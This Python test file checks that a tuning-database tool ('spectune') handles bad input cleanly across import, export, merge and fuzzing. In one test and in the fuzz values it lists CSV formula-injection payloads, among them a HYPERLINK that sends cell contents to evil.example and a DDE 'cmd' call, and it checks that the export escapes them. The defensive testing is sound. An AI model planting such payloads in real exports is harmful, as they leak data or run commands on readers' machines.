"""Bad input (issue 16): never a traceback, never a change to what is refused, never a
good row lost.

Each refusal is one line naming the file, the row and the field, with exit status 1;
what a command refuses is left byte for byte as it was. A malformed row stored in a
database (edited by hand) costs that row only.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import shutil
import sqlite3
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from spectune.db import load_index, open_store, read_rows_file, write_rows_file
from spectune.db._files import rows_to_json
from spectune.db._locations import Source, parse_target
from spectune.space import Problem

from .conftest import KERNEL, KERNEL_HASH, MI300X, SOFTWARE, make_row, write_db
from .test_cli import HIP_CONFIG, REPO, assert_clean_failure, run

ROLLBACK, WAL = b"\x01\x01", b"\x02\x02"  # SQLite header bytes 18-19: the journal mode


def digest(path: Path) -> str | None:
    """sha256 of a file's bytes, ``None`` when it is absent."""
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


def sidecars(path: Path) -> list[str]:
    """The journal files SQLite leaves beside a database."""
    return [s for s in ("-wal", "-shm", "-journal") if Path(f"{path}{s}").exists()]


def edit(path: Path, statement: str, params: tuple[Any, ...] = ()) -> None:
    """Change a stored row as a hand edit would (plain sqlite3, no spectune checks)."""
    connection = sqlite3.connect(path)
    try:
        with connection:
            connection.execute(statement, params)
    finally:
        connection.close()


# --- 1. Another application's SQLite file is refused before anything is written ------


def foreign_db(path: Path) -> Path:
    connection = sqlite3.connect(path)
    with connection:
        connection.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        connection.execute("INSERT INTO notes (body) VALUES ('not spectune''s')")
    connection.close()
    return path


@pytest.mark.parametrize("command", ["import", "upgrade", "merge"])
def test_foreign_sqlite_file_is_refused_unchanged(command: str, tmp_path: Path) -> None:
    target = foreign_db(tmp_path / "other_app.db")
    before = digest(target)
    assert target.read_bytes()[18:20] == ROLLBACK
    rows = tmp_path / "rows.json"
    write_rows_file([make_row(config=HIP_CONFIG)], rows, fmt="json")
    source = write_db(tmp_path / "source.db", [make_row(config=HIP_CONFIG)])
    args = {
        "import": ("import", str(rows), "--into", str(target)),
        "upgrade": ("upgrade", "--db", str(target)),
        "merge": ("merge", source, "--into", str(target)),
    }[command]
    assert_clean_failure(run(*args), str(target), "is not a spectune database", "notes")
    # journal_mode=WAL would have rewritten the header (bytes 18-19) before the refusal.
    assert digest(target) == before
    assert sidecars(target) == []


# --- 2. A WAL database on read-only storage is read; exports are rollback-journal ------

# Run in a process that sees FOLDER as read-only storage: loads each database with the
# serving path's loader and shows it with the CLI, and says whether FOLDER is writable.
_READ_ON_READ_ONLY_STORAGE = textwrap.dedent(
    """
    import json, sys
    from pathlib import Path
    from click.testing import CliRunner
    from spectune.cli import main
    from spectune.db import load_index
    from spectune.db._locations import Source, parse_target
    from tests.db.conftest import KERNEL, KERNEL_HASH, MI300X, SOFTWARE

    folder, names = Path(sys.argv[1]), sys.argv[2:]
    try:
        (folder / "probe").write_text("x")
        writable = True
    except OSError:
        writable = False
    out = {"writable": writable}
    for name in names:
        path = str(folder / name)
        index = load_index(device=MI300X, software=SOFTWARE, kernel_hashes={KERNEL: KERNEL_HASH},
                           sources=[Source(name="t", url=parse_target(path))])
        shown = CliRunner().invoke(main, ["db", "show", "--json", "--db", path])
        out[name] = {"configs": len(index), "load": index.sources[0].status,
                     "exit": shown.exit_code, "stderr": shown.stderr,
                     "rows": len(json.loads(shown.stdout)) if shown.exit_code == 0 else None}
    print(json.dumps(out))
    """
)


def on_read_only_storage(folder: Path, *args: str) -> dict[str, Any]:
    """Run ``_READ_ON_READ_ONLY_STORAGE`` where ``folder`` is read-only storage.

    Root ignores file permissions, so a read-only directory proves nothing under root
    (CI and containers). A read-only bind mount does: in a private user and mount
    namespace (``unshare -rm``, no privilege needed where user namespaces are allowed)
    ``folder`` is bind-mounted onto itself read-only, and writes fail with EROFS for
    every user, root included; the mount vanishes with the process. Without user
    namespaces a non-root user gets a directory without write permission instead.
    """
    command = [sys.executable, "-c", _READ_ON_READ_ONLY_STORAGE, str(folder), *args]
    unshare = shutil.which("unshare")
    usable = unshare is not None and subprocess.run(
        [unshare, "-rm", "true"], capture_output=True, timeout=30
    ).returncode == 0  # fmt: skip
    if usable:
        remount = 'mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" && shift && exec "$@"'
        command = [str(unshare), "-rm", "sh", "-c", remount, "sh", str(folder), *command]
    elif os.geteuid() != 0:
        folder.chmod(0o555)
    else:
        pytest.skip("root without user namespaces: no read-only storage to test on")
    try:
        completed = subprocess.run(command, cwd=REPO, capture_output=True, text=True,
                                   timeout=180)  # fmt: skip
    finally:
        folder.chmod(0o755)
    assert completed.returncode == 0, completed.stderr
    result: dict[str, Any] = json.loads(completed.stdout)
    assert result.pop("writable") is False, "the storage was not read-only: the test proves nothing"
    return result


def test_wal_database_reads_on_read_only_storage(tmp_path: Path) -> None:
    folder = tmp_path / "volume"
    folder.mkdir()
    rows = [make_row(spec_len=k) for k in (1, 2, 3)]
    wal_db = folder / "wal.db"
    write_db(wal_db, rows)
    assert wal_db.read_bytes()[18:20] == WAL
    assert sidecars(wal_db) == []  # the last writer folded the WAL in and removed it
    # A WAL file whose -wal holds a committed change not yet in the file, copied
    # without its -shm: read immutable, the change would be silently missing.
    pending = folder / "pending.db"
    shutil.copyfile(wal_db, pending)
    connection = sqlite3.connect(pending, isolation_level=None)
    connection.execute("PRAGMA wal_autocheckpoint = 0")
    connection.execute("UPDATE tuned_configs SET host = 'changed'")
    shutil.copyfile(f"{pending}-wal", folder / "stale.db-wal")
    shutil.copyfile(pending, folder / "stale.db")
    connection.close()
    # `db export` to .db writes a rollback-journal database: one self-contained file.
    exported = folder / "exported.db"
    result = run("export", str(exported), "--db", str(wal_db))
    assert result.exit_code == 0, result.output
    assert "exported 3 rows" in result.stderr
    assert exported.read_bytes()[18:20] == ROLLBACK
    assert sidecars(exported) == [] and not Path(f"{exported}.tmp").exists()
    exported_digest = digest(exported)  # a database is never overwritten by an export
    assert_clean_failure(run("export", str(exported), "--db", str(wal_db)),
                         f"{exported}: exists; export writes a new database")  # fmt: skip
    assert digest(exported) == exported_digest
    before = {p.name: digest(p) for p in folder.iterdir()}

    found = on_read_only_storage(folder, "wal.db", "exported.db", "stale.db")

    assert found["wal.db"] == {"configs": 3, "load": "read", "exit": 0, "stderr": "", "rows": 3}
    assert found["exported.db"] == found["wal.db"]
    stale = found["stale.db"]
    assert (stale["exit"], stale["load"], stale["configs"]) == (1, "error", 0)
    (line,) = stale["stderr"].splitlines()
    assert line.startswith(f"Error: {folder / 'stale.db'} cannot be read here")
    assert "stale.db-wal holds changes not yet in the file" in line
    assert {p.name: digest(p) for p in folder.iterdir()} == before


# --- 3. A malformed stored row costs that row only, and is named -----------------------


def malformed_db(path: Path) -> Path:
    """Five rows; rows 2 to 4 are then edited into nonsense: config, time, a BLOB."""
    write_db(path, [make_row(config=HIP_CONFIG, spec_len=k) for k in (1, 2, 3, 4, 5)])
    edit(path, "UPDATE tuned_configs SET config = '{\"BLOCK_V\": 1024,' WHERE spec_len = 2")
    edit(path, "UPDATE tuned_configs SET tuned_at = 'last tuesday' WHERE spec_len = 3")
    edit(path, "UPDATE tuned_configs SET config = ? WHERE spec_len = 4", (b"\xff\x00\x9c",))
    return path


BAD_ROWS = {  # spec_len -> the field named and what is said about it
    2: ("config", "config is not valid JSON"),
    3: ("tuned_at", "tuned_at is not a time: 'last tuesday'"),
    4: ("config", "config is not valid JSON"),
}


def assert_names_bad_rows(lines: list[str], path: Path, prefix: str) -> None:
    assert len(lines) == len(BAD_ROWS), lines
    for line, (spec_len, (_, problem)) in zip(lines, sorted(BAD_ROWS.items()), strict=True):
        assert line.startswith(f"{prefix}{path}: row id {spec_len}: {problem} (row key: ")
        assert "on hip gfx942 AMD_Instinct_MI300X" in line and f"spec_len={spec_len} " in line
        assert "Traceback" not in line


def test_a_malformed_stored_row_is_named_and_costs_only_itself(tmp_path: Path) -> None:
    path = malformed_db(tmp_path / "edited.db")
    before = digest(path)
    # show: the good rows, and one warning line per bad row.
    shown = run("show", "--json", "--db", str(path))
    assert shown.exit_code == 0, shown.output
    assert [r["spec_len"] for r in json.loads(shown.stdout)] == [1, 5]
    assert_names_bad_rows(shown.stderr.splitlines(), path, "warning: skipped ")
    # export: the same rows, the same warnings.
    out = tmp_path / "out.json"
    exported = run("export", str(out), "--db", str(path))
    assert exported.exit_code == 0
    assert [r.problem.spec_len for r in read_rows_file(out)] == [1, 5]
    # validate: every row listed, the bad ones with field and problem; bad data: exit 1.
    validated = run("validate", "--json", "--db", str(path))
    assert validated.exit_code == 1
    assert_names_bad_rows(validated.stderr.splitlines(), path, "malformed: ")
    verdicts = json.loads(validated.stdout)
    assert len(verdicts) == 5
    listed = {v["row_id"]: (v["field"], v["reasons"]) for v in verdicts if v["row"] is None}
    assert listed == {k: (f, [f"malformed: {p}"]) for k, (f, p) in BAD_ROWS.items()}
    # merge: all or nothing; refused, naming the source's row and field.
    dst = tmp_path / "dst.db"
    assert_clean_failure(run("merge", str(path), "--into", str(dst)),
                         f"{path}: row id 2: config is not valid JSON (row key: ")  # fmt: skip
    assert not dst.exists()
    # ... and a destination whose row of the same key is malformed: refused, unchanged.
    good = write_db(tmp_path / "good.db", [make_row(config=HIP_CONFIG, spec_len=3, p50=5.0)])
    assert_clean_failure(run("merge", good, "--into", str(path)),
                         f"{path}: row id 3: tuned_at is not a time")  # fmt: skip
    assert digest(path) == before
    # Warm starts for the tuner: the bad neighbours are left out, not the tuning.
    with open_store(path, readonly=True) as store:
        near = store.best_configs_near(kernel=KERNEL, device=MI300X, problem=Problem(
            spec_len=3, batch=8, vocab=128256, dtype="bfloat16", draft_probs=True))  # fmt: skip
    # Rows 1 and 5 share a config (one row per config); log2(5/3) < log2(3/1).
    assert [row.problem.spec_len for row in near] == [5]
    # The serving path: the rows whose config is not JSON only (it reads no time).
    index = load_index(device=MI300X, software=SOFTWARE, kernel_hashes={KERNEL: KERNEL_HASH},
                       sources=[Source(name="edited", url=parse_target(str(path)))])  # fmt: skip
    (report,) = index.sources
    assert (report.status, report.rows, report.usable, report.malformed) == ("read", 5, 3, 2)


# --- 4. Booleans are strict -------------------------------------------------------------


def test_draft_probs_must_be_a_real_boolean(tmp_path: Path) -> None:
    path = tmp_path / "flags.db"
    write_db(path, [make_row(spec_len=k, draft_probs=k % 2 == 0) for k in range(1, 7)])
    for spec_len, stored in ((1, "false"), (2, "maybe"), (3, 2), (4, "true")):
        edit(path, "UPDATE tuned_configs SET draft_probs = ? WHERE spec_len = ?",
             (stored, spec_len))  # fmt: skip
    index = load_index(device=MI300X, software=SOFTWARE, kernel_hashes={KERNEL: KERNEL_HASH},
                       sources=[Source(name="flags", url=parse_target(str(path)))])  # fmt: skip
    (report,) = index.sources
    assert (report.usable, report.malformed) == (2, 4)  # rows 5 and 6 (stored 0 and 1)
    for spec_len, draft in ((5, False), (6, True), (1, False), (2, True), (4, True)):
        problem = make_row(spec_len=spec_len, draft_probs=draft).problem
        found = index.lookup(device=MI300X, software=SOFTWARE, kernel=KERNEL, problem=problem)
        assert (found is not None) == (spec_len >= 5), spec_len
    shown = run("show", "--json", "--db", str(path))
    assert shown.exit_code == 0
    assert [(r["spec_len"], r["draft_probs"]) for r in json.loads(shown.stdout)] == [
        (5, False), (6, True)]  # fmt: skip
    lines = shown.stderr.splitlines()
    assert len(lines) == 4
    for line, stored in zip(lines, ("'false'", "'maybe'", "2", "'true'"), strict=True):
        assert f"draft_probs must be a bool, got {stored} (row key: " in line
        assert line.startswith(f"warning: skipped {path}: row id ")


# --- 5. Numbers out of range are refused on import, naming file, row and field ---------


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"spec_len": 2**63}, "spec_len is too large"),
        ({"tuned_p20_us": 10**400}, "tuned_p20_us is too large"),
        ({"tuning_seconds": 10**400}, "tuning_seconds is too large"),
        ({"speedup": 10**400}, "speedup is too large"),
        ({"config": {**HIP_CONFIG, "BLOCK_V": 2**63}}, "config['BLOCK_V'] is too large"),
        ({"history": [{**make_row(config=HIP_CONFIG).provenance.to_dict(), "trials": 10**400}]},
         "history entry 1: trials is too large"),
    ],
)  # fmt: skip
def test_numbers_out_of_range_are_refused_on_import(
    change: dict[str, Any], field: str, tmp_path: Path
) -> None:
    data = json.loads(rows_to_json([make_row(config=HIP_CONFIG)]))
    data[0].update(change)
    rows = tmp_path / "rows.json"
    rows.write_text(json.dumps(data))
    target = tmp_path / "into.db"
    write_db(target, [make_row(config=HIP_CONFIG, batch=16)])
    before = digest(target)
    line = assert_clean_failure(run("import", str(rows), "--into", str(target)),
                                f"{rows}: row 1: {field}")  # fmt: skip
    assert len(line) < 300 and "unexpected" not in line
    assert digest(target) == before


# --- 6. No folder is created for a database ----------------------------------------------


@pytest.mark.parametrize("command", ["import", "upgrade", "merge"])
def test_no_folder_is_created_for_a_database(command: str, tmp_path: Path) -> None:
    missing = tmp_path / "nonexistent" / "dir"
    target = f"sqlite:///{missing / 'x.db'}"
    rows = tmp_path / "rows.json"
    write_rows_file([make_row(config=HIP_CONFIG)], rows, fmt="json")
    source = write_db(tmp_path / "source.db", [make_row(config=HIP_CONFIG)])
    args = {
        "import": ("import", str(rows), "--into", target),
        "upgrade": ("upgrade", "--db", target),
        "merge": ("merge", source, "--into", target),
    }[command]
    assert_clean_failure(run(*args), f"cannot create {missing / 'x.db'}: its folder {missing} "
                                     "does not exist")  # fmt: skip
    assert not (tmp_path / "nonexistent").exists()


# --- 7. Export onto a directory ----------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "csv", "sqlite"])
def test_export_onto_a_directory_names_it_and_leaves_nothing(fmt: str, tmp_path: Path) -> None:
    write_db(tmp_path / "home" / "spectune.db", [make_row(config=HIP_CONFIG)])
    out = tmp_path / "out"
    out.mkdir()
    assert_clean_failure(run("export", str(out), "--format", fmt),
                         f"Error: {out}: is a directory; format {fmt} writes a file")  # fmt: skip
    assert list(out.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "out"]  # no out.tmp


# --- 10. CSV cells a spreadsheet would run are escaped -----------------------------------


def test_csv_export_escapes_formulas_and_reads_them_back(tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "'quoted", "plain-host"]  # fmt: skip
    rows = [make_row(spec_len=k, host=host, study=host) for k, host in enumerate(hostile, 1)]
    path = tmp_path / "rows.csv"
    write_rows_file(rows, path, fmt="csv")
    cells = list(csv.DictReader(io.StringIO(path.read_text(), newline="")))
    for cell, host in zip(cells, hostile, strict=True):
        expected = host if host == "plain-host" else "'" + host
        assert cell["host"] == expected and cell["study"] == expected
        for name in ("spec_len", "tuned_p50_us", "speedup", "trials"):  # numbers stay numbers
            float(cell[name])
    assert read_rows_file(path) == rows  # the escape is taken off again on import


# --- Fuzzing the importers ---------------------------------------------------------------

_ODD_VALUES: list[Any] = [
    None, True, False, 0, -1, 1.5, -0.0, 2**31, 2**63, -(2**63) - 1, 10**30, 10**400, 1e308, "",
    "x" * 300, "=cmd()", "\x1b[31m", "\u202e", [], {}, [1], {"a": 1}, "NaN", "1e999",
]  # fmt: skip


def _plausible(rng: random.Random, row: dict[str, Any]) -> None:
    """Values in range, so the row reaches the database (and its promotion rule)."""
    row["spec_len"] = rng.choice([1, 2, 8, 2**31 - 1])
    row["batch"] = 2 ** rng.randint(0, 30)
    row["vocab"] = rng.choice([1, 32000, 2**31 - 1])
    for prefix in ("tuned", "default"):
        p20 = rng.choice([1e-9, 0.5, 10.0, 1e12])
        row[f"{prefix}_p20_us"], row[f"{prefix}_p50_us"] = p20, p20 * 1.01
        row[f"{prefix}_p80_us"] = p20 * rng.choice([1.02, 3.0])
    row["speedup"] = row["default_p50_us"] / row["tuned_p50_us"]
    row["host"] = rng.choice(["=HYPERLINK(1)", "node-b", "'", "é" * 256])


def _mutated_json(rng: random.Random, base: list[dict[str, Any]]) -> bytes:
    data = json.loads(json.dumps(base))
    if rng.random() < 0.3:
        _plausible(rng, rng.choice(data))
        if rng.random() < 0.5:
            return json.dumps(data).encode()
    for _ in range(rng.randint(1, 3)):
        row = rng.choice(data)
        name = rng.choice(sorted(row))
        action = rng.random()
        if action < 0.6:
            row[name] = rng.choice(_ODD_VALUES)
        elif action < 0.7:
            del row[name]
        elif action < 0.8:
            row[f"extra_{name}"] = 1
        elif action < 0.9 and isinstance(row["config"], dict):
            row["config"][rng.choice(["BLOCK_V", "num_warps", "bad key"])] = rng.choice(_ODD_VALUES)
        else:
            row["history"] = [rng.choice(_ODD_VALUES)]
    text = json.dumps(data)
    if rng.random() < 0.1:  # NaN and Infinity are not JSON, though Python writes them
        text = text.replace("1.5", "NaN", 1).replace("10.0", "Infinity", 1)
    return text.encode()


def _mutated_csv(rng: random.Random, base_csv: str) -> bytes:
    lines = base_csv.splitlines()
    header, body = lines[0], lines[1:]
    cells = list(csv.reader(io.StringIO("\n".join(body))))
    for _ in range(rng.randint(1, 3)):
        row = rng.choice(cells)
        index = rng.randrange(len(row))
        choice = rng.random()
        if choice < 0.7:
            row[index] = str(rng.choice(_ODD_VALUES))
        elif choice < 0.85:
            del row[index]
        else:
            row.append("surplus")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(cells)
    return (header + "\n" + out.getvalue()).encode()


def _garbage(rng: random.Random, valid: bytes) -> bytes:
    choice = rng.random()
    if choice < 0.4:
        return rng.randbytes(rng.randint(0, 400))
    if choice < 0.7:
        return valid[: rng.randrange(len(valid))]  # truncated
    data = bytearray(valid)
    for _ in range(rng.randint(1, 8)):  # mostly ASCII: a file still UTF-8, broken deeper
        byte = rng.randrange(32, 127) if rng.random() < 0.8 else rng.randrange(256)
        data[rng.randrange(len(data))] = byte
    return bytes(data)


def test_fuzzed_imports_fail_cleanly_and_change_nothing(tmp_path: Path) -> None:
    """Seeded: mutated fields, wrong types, huge ints, NaN, missing keys, garbage bytes.

    Every import either succeeds, or exits 1 or 2 with one line and no traceback (nor
    an error the CLI did not expect) and leaves the target database as it was.
    """
    rng = random.Random(16)
    base_rows = [make_row(config=HIP_CONFIG, spec_len=k) for k in (1, 2)]
    base_json = json.loads(rows_to_json(base_rows))
    valid_csv = tmp_path / "valid.csv"
    write_rows_file(base_rows, valid_csv, fmt="csv")
    base_csv = valid_csv.read_text()
    target = tmp_path / "target.db"
    write_db(target, [make_row(config=HIP_CONFIG, batch=16)])
    makers: list[tuple[str, Callable[[], bytes]]] = [
        ("json", lambda: _mutated_json(rng, base_json)),
        ("csv", lambda: _mutated_csv(rng, base_csv)),
        ("json", lambda: _garbage(rng, rows_to_json(base_rows).encode())),
        ("csv", lambda: _garbage(rng, base_csv.encode())),
    ]
    outcomes = {0: 0, 1: 0, 2: 0}
    for case in range(400):
        suffix, make = makers[case % len(makers)]
        rows = tmp_path / f"case{case}.{suffix}"
        rows.write_bytes(make())
        before = digest(target)
        result = run("import", str(rows), "--into", str(target))
        context = (case, rows.read_bytes()[:300], result.output)
        assert result.exit_code in outcomes, context
        assert "Traceback" not in result.output, context
        outcomes[result.exit_code] += 1
        if result.exit_code == 0:
            continue
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: "), context
        assert "unexpected" not in lines[0], context
        assert digest(target) == before, context
        assert sidecars(target) == [], context
    # Both ways were exercised: refusals, and imports that reached the database.
    assert outcomes[1] > 250 and outcomes[0] > 10, outcomes
